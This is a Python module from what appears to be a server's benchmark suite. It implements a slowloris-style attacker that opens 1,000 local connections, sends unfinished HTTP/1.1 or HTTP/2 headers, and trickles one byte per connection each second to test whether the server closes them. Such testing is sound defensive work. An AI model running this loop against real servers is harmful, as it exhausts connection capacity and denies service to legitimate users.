"""An attacker of `benchmarks.attackers`: connections whose headers never end, a byte of each in a second."""

import contextlib
import socket
import struct
from multiprocessing.connection import Connection

from services.common.infra.process.descriptors import raise_limit
from tests.support import http2

ADDRESS = "127.0.0.2"
CONNECTIONS = 1_000
INTERVAL_SECONDS = 1.0
HTTP1 = b"GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: "
_HEADER_BYTES = 16_000
HTTP2 = http2.preface() + struct.pack(">I", _HEADER_BYTES)[1:] + struct.pack(">BBI", http2.HEADERS, 0, 1)


def trickle(pipe: Connection, begin: bytes, address: str) -> None:
    """Open connections, then send a byte on each every second until "end" comes; send what came of it."""
    raise_limit()
    host, _, port = address.rpartition(":")
    sockets = [socket.create_connection((host, int(port)), 20, (ADDRESS, 0)) for _ in range(CONNECTIONS)]
    for each in sockets:
        each.sendall(begin)
    pipe.send("ready")
    pipe.recv()
    closed = 0
    while not pipe.poll(INTERVAL_SECONDS):
        closed = 0
        for each in sockets:
            try:
                each.sendall(b"a")
            except OSError:
                closed += 1
    for each in sockets:
        with contextlib.suppress(OSError):
            each.close()
    pipe.send(f"{closed} of {CONNECTIONS} connections closed")
